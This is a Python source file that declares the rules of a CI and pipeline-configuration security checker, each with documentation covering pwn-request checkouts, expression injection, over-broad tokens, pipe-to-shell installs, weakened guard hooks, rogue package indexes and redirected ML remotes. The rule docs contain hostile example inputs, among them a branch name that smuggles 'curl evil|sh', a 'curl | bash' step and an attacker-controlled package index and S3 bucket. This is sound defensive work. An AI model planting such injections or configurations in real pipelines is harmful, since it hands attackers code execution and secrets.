"""config-guard's rules, declared once; their docs are `mlwarden explain CFGxxx`."""

from __future__ import annotations

from mlwarden.core.findings import Confidence, Severity
from mlwarden.core.rules import Rule, RuleDoc

NAME = "config-guard"
_GHSL = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
_INJECTION = "https://securitylab.github.com/resources/github-actions-untrusted-input/"
_ULTRALYTICS = "https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection"
_PERMS = "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"


def _rule(
    id: str,
    slug: str,
    sev: Severity,
    conf: Confidence,
    summary: str,
    doc: RuleDoc,
    cwe: tuple[int, ...],
) -> Rule:
    return Rule(
        id=id,
        slug=slug,
        hook=NAME,
        severity=sev,
        confidence=conf,
        summary=summary,
        doc=doc,
        cwe=cwe,
    )


CFG001 = _rule(
    "CFG001",
    "workflow-untrusted-checkout",
    Severity.CRITICAL,
    Confidence.HIGH,
    "A `pull_request_target`/`workflow_run` workflow checks out the pull request's code.",
    RuleDoc(
        what="Flags a checkout of the PR head (`ref: ${{ github.event.pull_request.head.sha }}`, "
        "`github.head_ref`, `refs/pull/...`, `gh pr checkout`) in a workflow triggered by "
        "`pull_request_target` or `workflow_run`.",
        why="Those triggers run with the base repository's secrets and a write token. Building "
        "or testing the attacker's code there hands both to any fork (a 'pwn request').",
        example="on: pull_request_target\njobs:\n  test:\n    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
        instead="on: pull_request   # no secrets, read-only token, for untrusted code",
        references=(_GHSL,),
    ),
    (829,),
)

CFG002 = _rule(
    "CFG002",
    "workflow-expression-injection",
    Severity.HIGH,
    Confidence.HIGH,
    "An attacker-controlled `${{ github.event.* }}` / `github.head_ref` is expanded in a script.",
    RuleDoc(
        what="Flags `${{ ... }}` expressions of attacker-controlled context (titles, bodies, "
        "branch names, commit messages, `github.head_ref`) inside `run:` or a github-script "
        "`script:`. Numbers, ids and shas are not flagged.",
        why="The expression is pasted into the script before the shell runs it: a branch named "
        "`a$(curl evil|sh)` runs code. This is how the Ultralytics build was compromised in "
        "December 2024.",
        example='run: echo "Building ${{ github.head_ref }}"',
        instead='env:\n  HEAD_REF: ${{ github.head_ref }}\nrun: echo "Building $HEAD_REF"',
        references=(_INJECTION, _ULTRALYTICS),
    ),
    (78, 94),
)

CFG003 = _rule(
    "CFG003",
    "workflow-write-all",
    Severity.HIGH,
    Confidence.HIGH,
    "A workflow or job grants `permissions: write-all`.",
    RuleDoc(
        what="Flags `permissions: write-all` at workflow or job level.",
        why="Every step, and every action it uses, gets a token that can push code, publish "
        "releases and edit workflows.",
        example="permissions: write-all",
        instead="permissions:\n  contents: read   # add only the scopes a job needs",
        references=(_PERMS,),
    ),
    (250,),
)

CFG004 = _rule(
    "CFG004",
    "workflow-missing-permissions",
    Severity.MEDIUM,
    Confidence.MEDIUM,
    "A workflow has no `permissions` block, so jobs get the repository's default token.",
    RuleDoc(
        what="Flags a workflow with no top-level `permissions` where some job has none either.",
        why="The default token is write-all on many repositories; a compromised step inherits "
        "it. Turn off with `workflow-permissions-required = false`.",
        example="on: push\njobs:\n  build:\n    runs-on: ubuntu-latest",
        instead="on: push\npermissions:\n  contents: read\njobs: ...",
        references=(_PERMS,),
    ),
    (250,),
)

CFG005 = _rule(
    "CFG005",
    "workflow-secret-exposure",
    Severity.HIGH,
    Confidence.MEDIUM,
    "A secret is echoed to the log, dumped whole, or handed to untrusted code.",
    RuleDoc(
        what="Flags `echo`/`printf` of `${{ secrets.* }}` or of a token-like variable to the "
        "log, `toJSON(secrets)`, and secrets given to steps that run after a checkout of "
        "pull-request code in a privileged workflow.",
        why="Log masking is defeated by any transformation (base64, reversing); code from a "
        "pull request can read every secret in its environment.",
        example="run: echo ${{ secrets.HF_TOKEN }}",
        instead="env:\n  HF_TOKEN: ${{ secrets.HF_TOKEN }}\nrun: huggingface-cli login "
        '--token "$HF_TOKEN"',
        references=(_GHSL,),
    ),
    (532, 200),
)

CFG006 = _rule(
    "CFG006",
    "pipe-to-shell",
    Severity.HIGH,
    Confidence.HIGH,
    "A CI script downloads code and runs it unverified (`curl ... | sh`).",
    RuleDoc(
        what="Flags `curl`/`wget` output piped or substituted into a shell or interpreter in "
        "`run:` steps and GitLab `script:` lines.",
        why="Whoever controls the URL, its DNS or a proxy runs code in CI with its secrets; "
        "nothing pins what was fetched.",
        example="run: curl -sSL https://example.com/install.sh | bash",
        instead="run: |\n  curl -sSLo install.sh https://example.com/install.sh\n"
        "  echo '<sha256>  install.sh' | sha256sum -c -\n  bash install.sh",
        references=("https://cwe.mitre.org/data/definitions/494.html",),
    ),
    (494,),
)

CFG007 = _rule(
    "CFG007",
    "guard-hook-removed",
    Severity.HIGH,
    Confidence.HIGH,
    "A change to `.pre-commit-config.yaml` removes or disables an mlwarden hook.",
    RuleDoc(
        what="Compares the staged `.pre-commit-config.yaml` with HEAD and flags an `mlwarden-*` "
        "hook that was removed or no longer runs at a stage it ran at (`stages: [manual]`).",
        why="Dropping the guard in the same commit as a payload is the simplest way to land it.",
        example="-      - id: mlwarden-secrets",
        instead="# keep the hook; silence one finding with `# mlwarden: ignore[ID]`",
        references=("https://pre-commit.com/#confining-hooks-to-run-at-certain-stages",),
    ),
    (693,),
)

CFG008 = _rule(
    "CFG008",
    "guard-hook-exclude-widened",
    Severity.MEDIUM,
    Confidence.MEDIUM,
    "A change to `.pre-commit-config.yaml` makes mlwarden hooks skip tracked files.",
    RuleDoc(
        what="Flags a new or changed `exclude`/`files` (top-level or on an `mlwarden-*` hook) "
        "that stops the hook from seeing tracked files it saw before.",
        why="`exclude: .*` (or a regex over `src/`) disables a guard while it still looks "
        "installed.",
        example="exclude: ^src/",
        instead="exclude: ^tests/fixtures/   # as narrow as the files that need it",
        references=("https://pre-commit.com/#regular-expressions",),
    ),
    (693,),
)

CFG009 = _rule(
    "CFG009",
    "hook-repo-changed",
    Severity.HIGH,
    Confidence.HIGH,
    "A hook in `.pre-commit-config.yaml` now comes from a different repository URL.",
    RuleDoc(
        what="Flags a hook id that HEAD took from one `repo:` and the staged config takes "
        "from another (a fork, a look-alike, `local`).",
        why="The hook's code runs on every developer machine and CI run; pointing it at "
        "another repository swaps that code while the config still reads the same.",
        example="-  - repo: https://github.com/mlwarden/mlwarden\n"
        "+  - repo: https://github.com/mIwarden/mlwarden",
        instead="# change hook sources only in a reviewed commit of their own",
        references=("https://pre-commit.com/#pre-commit-configyaml---repos",),
    ),
    (829,),
)

CFG010 = _rule(
    "CFG010",
    "package-index-not-allowed",
    Severity.HIGH,
    Confidence.HIGH,
    "A package index or channel is added or changed to one not in `allowed-indexes`.",
    RuleDoc(
        what="Flags index URLs and conda channels that are new in `pip.conf`/`pip.ini`, "
        "`.pypirc`, `uv.toml`, `pyproject.toml` (uv, poetry, pdm, pixi), `environment.yml` or "
        "`.condarc` and not listed in `[tool.mlwarden.config-guard] allowed-indexes`.",
        why="An extra index is how dependency confusion lands (the December 2022 torchtriton "
        "package on PyTorch nightly): pip takes the highest version from any index.",
        example="[global]\nextra-index-url = https://pypi.attacker.example/simple",
        instead="# add the index to allowed-indexes in a reviewed change, and pin with hashes",
        references=("https://pytorch.org/blog/compromised-nightly-dependency/",),
    ),
    (427, 829),
)

CFG011 = _rule(
    "CFG011",
    "ml-remote-host-changed",
    Severity.HIGH,
    Confidence.MEDIUM,
    "A DVC remote, MLflow tracking/registry URI or W&B endpoint now points at a new host.",
    RuleDoc(
        what="Flags a host in `.dvc/config` remotes, `MLFLOW_TRACKING_URI`/`tracking_uri`/"
        "`registry_uri` or `WANDB_BASE_URL`/`base_url` that HEAD did not use "
        "(`allowed-hosts` lists exceptions).",
        why="Redirecting the data or model remote swaps training data, models and metrics for "
        "the attacker's, or sends them out.",
        example="['remote \"storage\"']\n    url = s3://attacker-bucket/data",
        instead="# change remotes in a reviewed commit; list trusted hosts in allowed-hosts",
        references=("https://dvc.org/doc/command-reference/remote",),
    ),
    (15,),
)

CFG012 = _rule(
    "CFG012",
    "sensitive-path-unowned",
    Severity.MEDIUM,
    Confidence.HIGH,
    "A pipeline configuration file is not covered by `CODEOWNERS`.",
    RuleDoc(
        what="When the repository has a `CODEOWNERS`, flags the files config-guard watches "
        "(workflows, hook config, mlwarden config, package sources, ML remotes, CODEOWNERS "
        "itself) that no "
        "rule assigns an owner.",
        why="Without an owner, required reviews do not apply to the files that control CI, "
        "dependencies and data.",
        example="# CODEOWNERS\n/src/ @ml-team",
        instead="/.github/ @org/security\n/.pre-commit-config.yaml @org/security\n"
        "/.dvc/ @org/ml-platform",
        references=(
            "https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-owners",
        ),
    ),
    (284,),
)

CFG013 = _rule(
    "CFG013",
    "zizmor-finding",
    Severity.MEDIUM,
    Confidence.MEDIUM,
    "A finding of zizmor's offline audits on a GitHub workflow (only when zizmor is installed).",
    RuleDoc(
        what="When `zizmor` is on PATH (and `zizmor = true`, the default), config-guard runs its "
        "offline audits on the workflows it checks and reports what our own rules do not "
        "already cover (e.g. `artipacked`, `cache-poisoning`, `bot-conditions`). The message "
        "names zizmor's audit; the severity is zizmor's.",
        why="zizmor audits more GitHub Actions patterns than config-guard; merging its findings "
        "keeps one report and one suppression syntax. config-guard's rules stand without it.",
        example="- uses: actions/checkout@v4   # zizmor artipacked: credentials persisted",
        instead="- uses: actions/checkout@v4\n  with:\n    persist-credentials: false",
        references=("https://docs.zizmor.sh/audits/",),
    ),
    (693,),
)

CFG014 = _rule(
    "CFG014",
    "mlwarden-config-weakened",
    Severity.MEDIUM,
    Confidence.HIGH,
    "A change to `[tool.mlwarden]` disables rules, excludes files or loosens a hook.",
    RuleDoc(
        what="Compares `[tool.mlwarden]` (in `pyproject.toml` or `.mlwarden.toml`) with HEAD "
        "and flags newly disabled rules, new `exclude` patterns, a higher `min-severity`, and "
        "changed hook options (an added allowed index, fewer protected branches).",
        why="Loosening the guard's configuration in the same commit as the change it would "
        "have stopped switches it off while it still looks installed.",
        example='[tool.mlwarden]\ndisable = ["SEC001"]\nexclude = ["src/"]',
        instead="x = load()  # mlwarden: ignore[SEC001]   (one finding, in review)",
        references=("https://pre-commit.com/#regular-expressions",),
    ),
    (693,),
)

RULES: tuple[Rule, ...] = (
    CFG001,
    CFG002,
    CFG003,
    CFG004,
    CFG005,
    CFG006,
    CFG007,
    CFG008,
    CFG009,
    CFG010,
    CFG011,
    CFG012,
    CFG013,
    CFG014,
)
